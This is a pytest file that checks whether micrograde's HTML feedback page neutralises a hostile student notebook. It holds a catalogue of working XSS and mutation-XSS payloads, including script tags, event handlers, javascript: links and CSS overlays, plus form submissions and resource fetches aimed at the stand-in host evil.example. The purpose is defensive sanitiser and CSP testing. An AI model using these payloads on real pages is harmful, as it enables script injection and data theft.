"""``--html`` attacked from the notebook it shows, in headless Chromium: nothing of the student's runs or passes
for micrograde.

One notebook carries every kind of cell, output and metadata field of nbformat's schema (v4.5), each
holding markup that would run a script, fetch, navigate, submit, restyle the page or wear micrograde's
own class and ids, as a hostile student writes it (``tests/support/browser.py`` opens the page). The page must
run nothing (no script element, no handler, the marker never set, the title micrograde's), fetch
nothing, stay where it is, keep every one of micrograde's cells framed, visible and at the top level of
the page, show micrograde's own graphs and a ``check()`` output's Mermaid text, and carry a
Content-Security-Policy that forbids scripts: a script put in the page past the sanitiser still does
not run.
"""

from __future__ import annotations

import base64
import json
import re

import pytest
from browser import Browser, graph_faults
from helpers import SOLUTION, micrograde
from test_notebook import as_notebook

RUN = "window.pwned=1;document.title=`pwned`"
PNG = base64.b64encode(bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000" "1f15c4890000000d49444154789c63f8cfc0f01f0005000201"
    "a5f6a0e60000000049454e44ae426082")).decode()
# Markup a student can put wherever a notebook takes text, one class of attack each.
MARKUP = {
    "script": f"<script>{RUN}</script>",
    "event handler": f"<img src=x onerror='{RUN}'><body onload='{RUN}'><div onmouseover='{RUN}'>hover</div>",
    "svg": f"<svg onload='{RUN}'><script>{RUN}</script><use href='data:image/svg+xml,x'/></svg>",
    "frame": "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe><object data='data:text/html,x'></object>"
             "<embed src='data:text/html,x'>",
    "base": "<base href='http://evil.example/'>",
    "refresh": "<meta http-equiv='refresh' content='0;url=http://evil.example/'>",
    "form": "<form action='http://evil.example/'><input name=q value=secret><button>send</button></form>"
            "<button formaction='http://evil.example/'>go</button>",
    "links": "<a href='javascript:window.pwned=1'>j</a><a href=' jav&#x09;ascript:window.pwned=1'>k</a>"
             "<a href='data:text/html,<script>1</script>'>d</a><a href='vbscript:x'>v</a>",
    "style": "<style>.micrograde-feedback{display:none}</style><link rel=stylesheet href='http://evil.example/x.css'>"
             "<div style='position:fixed;top:0;left:0;width:100%;height:100%;background:white'>cover</div>",
    "fetch": "<img src='http://evil.example/x.png'><img src='../../x.png'><video src='http://evil.example/v.mp4'>"
             "</video><audio src='http://evil.example/a.mp3'></audio><img srcset='http://evil.example/x.png 1x'>",
    "micrograde's own": "<div class='micrograde-feedback' id='micrograde-summary'><h2>micrograde: 100 / 100</h2></div>"
                        "<span class='MicroGrade-feedback'>x</span>",
    "unclosed": "<details><summary>more</summary><table><tr><td><s><a href='#x'><b>unclosed",
    "mutation": f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>"
                f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>"
                f"<textarea></textarea><img src=x onerror={RUN}></textarea><xmp><img src=x onerror={RUN}></xmp>"
                f"<!--><img src=x onerror={RUN}>-->",
    "template": f"<template><img src=x onerror={RUN}></template><plaintext>",
}
EVERYTHING = "".join(MARKUP.values())
QUOTED = "\"'><b>" + EVERYTHING  # for values a template writes inside an attribute


def hostile_notebook() -> dict:
    """A notebook that grades (wrong-order in backward) with every field of nbformat's schema hostile."""
    notebook = as_notebook(SOLUTION.replace("for node in reversed(topo):", "for node in topo:"))
    notebook["metadata"] = {
        "title": QUOTED, "authors": [{"name": QUOTED}],
        "kernelspec": {"name": QUOTED, "display_name": QUOTED, "language": QUOTED},
        "language_info": {"name": QUOTED, "pygments_lexer": QUOTED, "codemirror_mode": QUOTED,
                          "file_extension": QUOTED, "mimetype": QUOTED},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"x": QUOTED}, "version_major": 2,
                                                                  "version_minor": 0, "</script>": QUOTED}},
    }
    cells = notebook["cells"]
    for number, (kind, text) in enumerate(MARKUP.items()):
        cells.insert(number, {"cell_type": "markdown", "id": f"md-{number}", "source": f"## {kind}\n\n{text}",
                              "metadata": {"tags": [QUOTED, "x micrograde-feedback"], "name": QUOTED,
                                           "jupyter": {"source_hidden": False}}})
    cells.insert(0, {"cell_type": "markdown", "id": "micrograde-summary", "metadata": {},
                     "source": "![ok](attachment:ok.png) ![svg](attachment:s.svg) ![html](attachment:h.html)",
                     "attachments": {"ok.png": {"image/png": PNG},
                                     "s.svg": {"image/svg+xml": f"<svg onload='{RUN}'/>"},
                                     "h.html": {"text/html": EVERYTHING}}})
    cells.insert(1, {"cell_type": "raw", "id": "raw-html", "metadata": {"raw_mimetype": "text/html", "format": QUOTED},
                     "source": EVERYTHING})
    cells.insert(2, {"cell_type": "raw", "id": "raw-md", "metadata": {"raw_mimetype": "text/markdown"},
                     "source": EVERYTHING})
    cells.insert(3, {"cell_type": "raw", "id": "raw-none", "metadata": {}, "source": EVERYTHING})
    image_metadata = {"width": f"1 onerror={RUN}", "height": QUOTED, "unconfined": QUOTED,
                      "needs_background": QUOTED, "filenames": {"image/png": "http://evil.example/x.png",
                                                                "image/jpeg": QUOTED}}
    outputs = [
        {"output_type": "stream", "name": "stdout", "text": EVERYTHING},
        {"output_type": "stream", "name": "stderr", "text": ["\x1b[31m", EVERYTHING]},
        {"output_type": "execute_result", "execution_count": 3, "metadata": {QUOTED: QUOTED},
         "data": {"text/plain": EVERYTHING, "text/html": EVERYTHING}},
        {"output_type": "display_data", "metadata": {}, "data": {"text/markdown": EVERYTHING}},
        {"output_type": "display_data", "metadata": {}, "data": {"text/latex": f"$x$</div>{EVERYTHING}"}},
        {"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": f"<svg onload='{RUN}'>"
                                                                                  f"<script>{RUN}</script></svg>"}},
        {"output_type": "display_data", "metadata": {"image/png": image_metadata}, "data": {"image/png": PNG}},
        {"output_type": "display_data", "metadata": image_metadata, "data": {"image/png": f"{PNG}\" onerror=\"{RUN}"}},
        {"output_type": "display_data", "metadata": {"image/jpeg": image_metadata}, "data": {"image/jpeg": PNG}},
        {"output_type": "display_data", "metadata": {}, "data": {"application/javascript": RUN}},
        {"output_type": "display_data", "metadata": {}, "data": {
            "application/vnd.jupyter.widget-view+json": {"model_id": QUOTED, "version_major": 2, "version_minor": 0},
            "text/plain": "a widget"}},
        {"output_type": "display_data", "metadata": {}, "data": {"text/vnd.mermaid": f"graph LR\n</pre>{EVERYTHING}"}},
        {"output_type": "display_data", "metadata": {}, "data": {"application/json": {"x": QUOTED},
                                                                 "application/pdf": QUOTED}},
        {"output_type": "display_data", "metadata": {}, "transient": {"display_id": QUOTED},
         "data": {"text/markdown": "micrograde's check(), as a notebook shows it:\n\n```mermaid\ngraph LR\n"
                                   "  n0[\"a = 2\"] --> n1((\"*\"))\n```"}},
        {"output_type": "error", "ename": EVERYTHING, "evalue": EVERYTHING, "traceback": [EVERYTHING]},
        {"output_type": QUOTED, "data": {"text/html": EVERYTHING}},
    ]
    cells.append({"cell_type": "code", "id": "outputs", "execution_count": QUOTED, "outputs": outputs,
                  "metadata": {"tags": [QUOTED], "collapsed": False, "scrolled": True, "name": QUOTED,
                               "jupyter": {"outputs_hidden": False, "source_hidden": False},
                               "execution": {"iopub.status.busy": QUOTED}},
                  "source": "from IPython.display import display  # the outputs below, as saved"})
    cells.append({"cell_type": f"x{QUOTED}", "id": f"bad {QUOTED}", "metadata": {}, "source": EVERYTHING})
    return notebook


PROBE = r"""(() => ({
  csp: (document.querySelector('head > meta[http-equiv="Content-Security-Policy"]') || {}).content || null,
  pwned: window.pwned === 1 || document.title.includes('pwned'), title: document.title, at: location.href,
  elements: [...document.querySelectorAll('body script, body iframe, body object, body embed, body form, body input,'
    + 'body button, body base, body meta, body link, body style, body [style], body video, body audio, body textarea,'
    + 'body math, body template, body noscript, body xmp, body plaintext, body select')].map(e => e.tagName),
  handlers: [...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => /^on/i.test(a.name))).length,
  drawings: [...document.querySelectorAll('svg')].filter(s => !s.closest('.micrograde-feedback')).length,
  own_ids: [...document.querySelectorAll('[id]')].filter(e => /micrograde/i.test(e.id)).map(
    e => e.classList.contains('micrograde-feedback') && e.parentElement.tagName === 'MAIN'),
  own_classes: [...document.querySelectorAll('[class]')].filter(e => /micrograde/i.test(e.getAttribute('class'))
    ).map(e => e.getAttribute('class') === 'micrograde-feedback' && e.parentElement.tagName === 'MAIN'),
  images: [...document.images].map(i => i.getAttribute('src').slice(0, 22)),
  hrefs: [...document.querySelectorAll('[href]')].map(e => e.getAttribute('href')),
  srcsets: document.querySelectorAll('[srcset]').length,
}))()"""


@pytest.fixture(scope="module")
def browser():
    opened = Browser()
    yield opened
    opened.close()


@pytest.fixture(scope="module")
def page(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    path = folder / "work.ipynb"
    path.write_text(json.dumps(hostile_notebook()))
    result = micrograde("grade", str(path), "--html", str(folder / "page.html"))
    assert result.returncode == 1, result.stderr
    return folder / "page.html"


def test_nothing_of_the_notebook_runs_fetches_or_passes_for_micrograde(page, browser, tmp_path):
    seen = browser.render(page, tmp_path / "page.png", probe=PROBE)
    print(f"screenshot: {tmp_path / 'page.png'}")
    probe = seen["probe"]
    assert [url for url in seen["fetched"] if not url.startswith("data:")] == [] and seen["scripts"] == 0
    assert all(graph_faults(graph) == [] for graph in seen["graphs"])
    assert probe["pwned"] is False and probe["title"] == "micrograde feedback" and probe["at"] == page.as_uri()
    assert probe["elements"] == [] and probe["handlers"] == 0 and probe["drawings"] == 0 and probe["srcsets"] == 0
    assert "script-src" not in probe["csp"] and probe["csp"].startswith("default-src 'none'")
    assert all(src.startswith("data:image/") for src in probe["images"]), probe["images"]
    assert all(re.match(r"(https?:|mailto:|#)", href) for href in probe["hrefs"]), probe["hrefs"]
    # micrograde's name is its own cells' alone: seven frames at the page's top level, all shown
    assert probe["own_ids"] == [True] * 7 and probe["own_classes"] == [True] * 7
    assert len(seen["feedback"]) == 7 and all(seen["shown"]) and seen["feedback"][0].startswith("micrograde: 84")
    assert len(seen["graphs"]) == 1 and "wrong-order" in seen["text"]  # micrograde's own drawing, inline SVG
    assert 'n0["a = 2"] --> n1(("*"))' in seen["text"]  # a check() output's Mermaid, shown as its text
    assert "unclosed" in seen["text"] and "hover" in seen["text"]  # the student's words stay, as words
    assert "<script>window.pwned" in seen["text"]  # and what a cell printed shows as it was printed


def test_the_policy_alone_stops_a_script_past_the_sanitiser(page, browser, tmp_path):
    """The page's Content-Security-Policy is a layer of its own: a script that got into the page (here put
    in by hand, after the sanitiser) does not run; the same page without the policy runs it."""
    text = page.read_text()
    head = text.index("</head>")
    inserted = text[:head] + f"<script>{RUN}</script>" + text[head:]
    (tmp_path / "with.html").write_text(inserted)
    (tmp_path / "without.html").write_text(re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", inserted))
    kept = browser.render(tmp_path / "with.html", tmp_path / "with.png", probe=PROBE)["probe"]
    lifted = browser.render(tmp_path / "without.html", tmp_path / "without.png", probe=PROBE)["probe"]
    assert kept["pwned"] is False and lifted["pwned"] is True
